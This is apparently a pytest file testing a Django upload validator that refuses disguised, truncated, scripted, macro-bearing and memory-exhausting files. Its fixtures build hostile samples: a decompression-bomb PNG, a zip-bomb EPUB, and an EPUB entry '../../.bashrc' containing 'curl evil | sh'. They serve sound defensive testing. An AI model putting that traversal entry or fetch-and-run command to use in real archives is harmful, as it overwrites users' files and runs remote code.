"""Uploads are typed by their content and refused, with a reason, when disguised, dangerous,
truncated or built to exhaust memory. Every test writes a real file."""

import random
import resource
import warnings
import zipfile

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from tests.works import files
from works.filetypes import FILE_TYPES, SNIFF_BYTES, check_name, check_structure, sniff

MAX_PIXELS = 150_000_000

MAKERS = {
    "jpeg": files.make_jpeg,
    "png": files.make_png,
    "webp": files.make_webp,
    "gif": files.make_gif,
    "tiff": files.make_tiff,
    "txt": files.make_txt,
    "pdf": files.make_pdf,
    "epub": files.make_epub,
    "docx": files.make_docx,
    "mp3": files.make_mp3,
    "wav": files.make_wav,
    "flac": files.make_flac,
    "mp4": files.make_mp4,
}


def sniff_file(path):
    with open(path, "rb") as f:
        return sniff(f.read(SNIFF_BYTES))


def refusal(call, *args, **kwargs) -> str:
    with pytest.raises(ValidationError) as caught:
        call(*args, **kwargs)
    return caught.value.messages[0]


def vet(path) -> dict:
    """What the upload service does: sniff, then check the whole file's structure."""
    return check_structure(sniff_file(path), path, max_pixels=MAX_PIXELS)


@pytest.mark.parametrize("fmt", MAKERS)
def test_every_format_is_known_by_its_content_even_when_misnamed(tmp_path, fmt):
    wrong_name = "holiday.pdf" if fmt == "jpeg" else "holiday.jpg"
    path = MAKERS[fmt](tmp_path / wrong_name)

    filetype = sniff_file(path)

    assert filetype == FILE_TYPES[fmt]
    assert isinstance(check_structure(filetype, path, max_pixels=MAX_PIXELS), dict)
    named_like = "a PDF document (.pdf)" if fmt == "jpeg" else "a JPEG image (.jpg)"
    assert refusal(check_name, filetype, wrong_name) == (
        f"This file is named like {named_like} but its content is {filetype.label}."
    )
    for fine in (f"work{filetype.extensions[0]}", f"WORK{filetype.extensions[-1].upper()}"):
        check_name(filetype, fine)


def test_pdf_named_like_a_photo_is_refused_with_both_names(tmp_path):
    path = files.make_pdf(tmp_path / "photo.jpg")

    message = refusal(check_name, sniff_file(path), "C:\\Users\\alice\\photo.jpg")

    assert message == (
        "This file is named like a JPEG image (.jpg) but its content is a PDF document."
    )


@pytest.mark.parametrize("name", ["novel", "novel.manuscript", "draft.final.", ""])
def test_unknown_or_missing_extensions_pass(tmp_path, name):
    check_name(sniff_file(files.make_pdf(tmp_path / "x")), name)


@pytest.mark.parametrize("name", ["cover.svg", "page.html", "setup.exe", "app.js", "book.zip"])
def test_names_of_refused_kinds_are_disguises_too(tmp_path, name):
    filetype = sniff_file(files.make_png(tmp_path / "x"))

    assert "but its content is a PNG image" in refusal(check_name, filetype, name)


def test_html_named_jpg_is_refused_as_a_web_page(tmp_path):
    path = files.make_html(tmp_path / "photo.jpg")

    assert refusal(sniff_file, path).startswith("This file is a web page (HTML), not a ")


def test_svg_carrying_a_script_is_refused(tmp_path):
    path = files.make_svg(tmp_path / "logo.png")

    assert refusal(sniff_file, path) == (
        "SVG images are not accepted: they can carry scripts. Export a PNG or JPEG instead."
    )


def test_svg_in_utf16_is_refused_too(tmp_path):
    path = tmp_path / "logo.txt"
    path.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', encoding="utf-16")

    assert refusal(sniff_file, path).startswith("SVG images are not accepted")


def test_a_poem_starting_with_an_angle_bracket_is_plain_text(tmp_path):
    path = files.make_txt(tmp_path / "poem.txt", "<3 for the harbour,\nand the <tide> too.\n")

    assert sniff_file(path).format == "txt"


def test_empty_file_is_refused(tmp_path):
    path = tmp_path / "nothing.pdf"
    path.write_bytes(b"")

    assert refusal(sniff_file, path) == "This file is empty."
    assert refusal(check_structure, FILE_TYPES["pdf"], path, max_pixels=MAX_PIXELS) == (
        "This file is empty."
    )


def test_random_bytes_are_not_supported(tmp_path):
    path = tmp_path / "mystery.dat"
    path.write_bytes(random.Random(1).randbytes(SNIFF_BYTES))

    message = refusal(sniff_file, path)

    assert message.startswith("This kind of file is not supported. Accepted: JPEG, PNG")


def test_plain_zip_is_refused(tmp_path):
    path = files.make_zip(tmp_path / "book.epub")

    assert refusal(sniff_file, path) == "ZIP archives are not accepted here."


def test_m4a_audio_is_named_as_not_supported_yet(tmp_path):
    path = tmp_path / "song.mp4"
    path.write_bytes(b"\x00\x00\x00\x18ftypM4A \x00\x00\x02\x00M4A isom" + b"\x00" * 64)

    assert refusal(sniff_file, path).startswith("AAC/M4A audio is not supported yet")


def test_latin1_text_is_asked_to_be_saved_as_utf8(tmp_path):
    path = files.make_txt(tmp_path / "poem.txt", "Café au lait, déjà vu.\n", encoding="latin-1")

    assert refusal(sniff_file, path).startswith("This text file is not in UTF-8.")


def test_utf16_and_bom_text_are_accepted(tmp_path):
    utf16 = files.make_txt(tmp_path / "a.txt", "Ünïcödé harbour\n" * 2000, encoding="utf-16")
    bom = files.make_txt(tmp_path / "b.txt", bom=True)

    assert vet(utf16) == {"encoding": "utf-16", "characters": 32000, "lines": 2000}
    assert vet(bom)["encoding"] == "utf-8"


def test_text_that_turns_to_binary_after_the_sniffed_head_is_refused(tmp_path):
    path = tmp_path / "story.txt"
    path.write_bytes(b"Once upon a time.\n" * 1000 + b"\xff\xfe\x00binary tail")

    assert sniff_file(path).format == "txt"
    assert "not valid UTF-8 near byte 18,000" in refusal(vet, path)


@pytest.mark.parametrize("fmt", ["jpeg", "png", "pdf", "wav", "mp4", "gif", "webp"])
def test_truncated_files_are_refused(tmp_path, fmt):
    path = files.truncate(MAKERS[fmt](tmp_path / f"cut.{fmt}"), keep=0.7)

    message = refusal(vet, path)

    assert "truncated" in message
    assert message.endswith("Please upload the complete file.")


def test_jpeg_with_data_after_its_end_marker_is_complete(tmp_path):
    """Phones append a video after the JPEG (motion photos): that is not truncation."""
    path = files.make_jpeg(tmp_path / "motion.jpg")
    path.write_bytes(path.read_bytes() + files.make_mp4(tmp_path / "clip.mp4").read_bytes())

    assert vet(path)["width"] == 1200


def test_mp4_without_its_index_is_truncated(tmp_path):
    path = tmp_path / "clip.mp4"
    path.write_bytes(b"\x00\x00\x00\x14ftypisom\x00\x00\x02\x00isom" + b"\x00\x00\x00\x10mdat" * 2)

    assert "moov" in refusal(vet, path)


def test_mp4_with_a_64_bit_box_size_is_read(tmp_path):
    path = files.make_mp4(tmp_path / "clip.mp4", seconds=3.5, large_mdat=True)

    assert vet(path) == {"duration_seconds": 3.5}


def test_decompression_bomb_is_refused_from_its_header_before_decoding(tmp_path):
    path = files.make_png_bomb(tmp_path / "bomb.png", size=(20000, 20000))
    assert path.stat().st_size < 100_000  # 400 megapixels in under 100 KB
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    message = refusal(vet, path)

    assert message == (
        "This image is 20,000 × 20,000 pixels (400 megapixels); the limit is 150 megapixels."
    )
    peak_growth_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before
    assert peak_growth_kb < 100_000  # decoding would have needed 400 MB
    assert Image.MAX_IMAGE_PIXELS == 89_478_485  # Pillow's global was left alone


def test_small_png_of_100_megapixels_passes_the_structure_check(tmp_path):
    """Allowed by pixel count (Pillow's own default limit would warn at 89 megapixels);
    decoding it in full is the worker's job, with its own memory budget."""
    path = files.make_png_bomb(tmp_path / "big.png", size=(10000, 10000))
    assert path.stat().st_size < 16_000

    with warnings.catch_warnings():
        warnings.simplefilter("error", Image.DecompressionBombWarning)
        metadata = vet(path)

    assert (metadata["width"], metadata["height"]) == (10000, 10000)


def test_exif_orientation_gives_the_displayed_size(tmp_path):
    exif = Image.Exif()
    exif[0x0112] = 6  # stored landscape, shown portrait
    path = files.make_jpeg(tmp_path / "portrait.jpg", size=(600, 400), exif=exif)

    assert vet(path) == {"width": 400, "height": 600, "orientation": 6, "mode": "RGB"}


def test_zip_bomb_epub_is_refused(tmp_path):
    path = files.make_epub(tmp_path / "book.epub", extra={"EPUB/filler.xhtml": bytes(8 << 20)})
    assert path.stat().st_size < 100_000

    assert "zip bomb" in refusal(vet, path)


def test_epub_entry_escaping_the_folder_is_refused(tmp_path):
    path = files.make_epub(tmp_path / "book.epub", extra={"../../.bashrc": b"curl evil | sh"})

    assert refusal(vet, path) == "This file contains an unsafe name: '../../.bashrc'."


def test_epub_without_container_is_damaged(tmp_path):
    path = files.make_epub(tmp_path / "book.epub")
    broken = tmp_path / "broken.epub"
    with (
        zipfile.ZipFile(path) as source,
        zipfile.ZipFile(broken, "w") as target,
    ):
        for info in source.infolist():
            if info.filename != "META-INF/container.xml":
                target.writestr(info, source.read(info))

    assert refusal(vet, broken) == "This EPUB e-book is damaged: it has no META-INF/container.xml."


def test_word_document_with_macros_is_refused(tmp_path):
    path = files.make_docx(tmp_path / "letter.docx")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")

    assert "contains macros" in refusal(vet, path)


def test_audio_metadata_is_read_from_the_headers(tmp_path):
    wav = files.make_wav(tmp_path / "a.wav", seconds=1.5, rate=48000, bits=24, channels=2)
    flac = files.make_flac(tmp_path / "a.flac", seconds=0.75)
    mp3 = files.make_mp3(tmp_path / "a.mp3", id3=False)

    assert vet(wav) == {"channels": 2, "sample_rate": 48000, "bits": 24, "duration_seconds": 1.5}
    assert vet(flac) == {"sample_rate": 44100, "channels": 1, "bits": 16, "duration_seconds": 0.75}
    assert vet(mp3)["bitrate_kbps"] == 128
